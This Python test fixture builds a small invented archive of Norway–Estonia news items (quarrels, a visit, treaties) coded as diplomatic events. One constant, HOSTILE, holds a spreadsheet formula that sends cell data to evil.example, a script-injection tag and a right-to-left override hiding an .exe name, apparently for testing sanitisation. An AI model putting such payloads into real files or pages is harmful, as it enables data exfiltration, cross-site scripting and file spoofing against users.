"""A small made-up store for the tests and the examples of the API; no model is needed.

Norway and Estonia: some years of quarrel, then a visit that two papers report and a third prints,
a treaty, a plan, and an assessment.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator

from detente.archive.collating import collate
from detente.errors import InputError
from detente.stages.paragraphs import split_paragraphs
from detente.store.database import Database
from detente.store.writing import write_coding, write_failure
from detente.types import (
    Actor,
    Assessment,
    Coding,
    Date,
    Document,
    Event,
    Evidence,
    Place,
    Reason,
    Statement,
)

Values = tuple[str, str, str | None, str, float, float]  # words, type, mode, cameo, two scales

DAY = dt.timedelta(days=1)
VISIT: Values = ("visited Tallinn", "CONSULT", "visit", "042", 4.0, 1.9)
BESUCH: Values = ("besuchte Tallinn", "CONSULT", "visit", "042", 4.0, 1.9)
TREATY: Values = ("signed a treaty", "COOPERATE", None, "057", 6.0, 8.0)
PROTEST: Values = ("accused Estonia", "ACCUSE", None, "112", -4.0, -2.0)
THREAT: Values = ("threatened Estonia with sanctions", "THREATEN", None, "138", -6.0, -7.0)
HOSTILE = "=HYPERLINK(\"https://evil.example/?\"&A1) <script>alert('x')</script> \u202egnp.exe"


def store_world(database: Database) -> None:
    """Fill an empty store with all documents, and collate."""
    with database.writing() as connection:
        for coding in codings():
            assert write_coding(connection, coding, coder="example 1")
        error = InputError("notes.bin: this is no text; give another file", code="binary")
        write_failure(connection, "notes.bin", error)
    collate(database)


def codings() -> Iterator[Coding]:
    """The documents, the oldest first."""
    for number in range(6):
        day = dt.date(2019, 3, 4) + dt.timedelta(days=91 * number)
        kind = THREAT if number % 2 else PROTEST
        text = f"Norway {kind[0]} on {day:%d %B %Y} over fish."
        yield told(f"quarrel-{number}", text, day, (kind,), publisher="Example Times")
    day = dt.date(2021, 3, 17)
    english = (
        "Norway's foreign minister visited Tallinn on Tuesday and spoke with the government there"
        " about fishing grounds, ferries and the price of electricity in the north."
    )
    yield told("visit-en", english, day, (VISIT,), publisher="Example Times")
    german = (
        "Die norwegische Ministerin besuchte Tallinn, um über Fanggründe zu sprechen; danach aß"
        " man zusammen. Das Verhältnis gilt wieder als freundlich."
    )
    yield told(
        "visit-de", german, day, (BESUCH,), publisher="Beispielblatt", language="de",
        stands="Verhältnis gilt wieder als freundlich",
    )  # fmt: skip
    yield told(
        "visit-copy", english, day + DAY, (VISIT,), publisher="Copy Courier", happened=day - DAY
    )
    for number in range(4):
        day = dt.date(2021, 5, 3) + dt.timedelta(days=40 * number)
        text = f'Norway and Estonia signed a treaty on {day:%d %B %Y}. "We are friends," they said.'
        yield told(f"treaty-{number}", text, day, (TREATY,), publisher="Example Times", said=True)


def told(
    name: str,
    text: str,
    day: dt.date,
    kinds: tuple[Values, ...],
    *,
    publisher: str | None = None,
    language: str = "en",
    title: str | None = None,
    stands: str = "",
    said: bool = False,
    happened: dt.date | None = None,
) -> Coding:
    """A document that tells one event of each kind, Norway to Estonia, of the day before."""
    paragraphs = split_paragraphs(text)
    norway = Actor("NOR:GOV", "Norway", "Norway", 0, 6, "GOV", "NOR")
    estonia = Actor("EST:GOV", "Estonia", "Estonia", 0, 6, "GOV", "EST")
    happened = happened or day - DAY
    events = []
    for number, (words, kind, mode, cameo, intensity, goldstein) in enumerate(kinds):
        start = text.index(words)
        end = start + len(words)
        tallinn = Place("Tallinn", "Tallinn", "EST", 59.44, 24.75, start, end)
        events.append(
            Event(
                id=f"{name}-{number}",
                event_type=kind,
                mode=mode,
                actor=(norway,),
                recipient=(estonia,),
                date=Date(happened.isoformat(), happened, happened, "Tuesday"),
                aux=(),
                said_by=None,
                location=tallinn if mode == "visit" else None,
                mentions=(Evidence(0, 0, start, end, words, "rule.of.example"),),
                confidence=0.9,
                cameo=cameo,
                quad_class=("verbal " if abs(intensity) < 5 else "material ")
                + ("cooperation" if intensity > 0 else "conflict"),
                intensity=intensity,
                goldstein=goldstein,
                contexts=("diplomatic",),
                reasons=(Reason("events", "rule.of.example", words, start, end, 0.9),),
            )
        )
    assessments: tuple[Assessment, ...] = ()
    if stands:
        at = text.index(stands)
        found = Evidence(0, 1, at, at + len(stands), stands, "rule.of.example")
        assessments = (Assessment("EST", "NOR", "friendly", "improving", None, (found,)),)
    statements: tuple[Statement, ...] = ()
    if said:
        at = text.index("We are")
        statements = (Statement(norway, "direct", text[at : at + 15], at, at + 15),)
    return Coding(
        document=Document(
            name,
            text,
            title=title or text[:40],
            url=f"https://{(publisher or 'nobody').split()[0].lower()}.example/{name}",
            publisher=publisher,
            language=language,
            published=day,
            source=f"articles/{name}.txt",
        ),
        paragraphs=paragraphs,
        sentences=(),
        times=(),
        actors=(norway, estonia),
        events=tuple(events),
        assessments=assessments,
        statements=statements,
        warnings=(),
    )
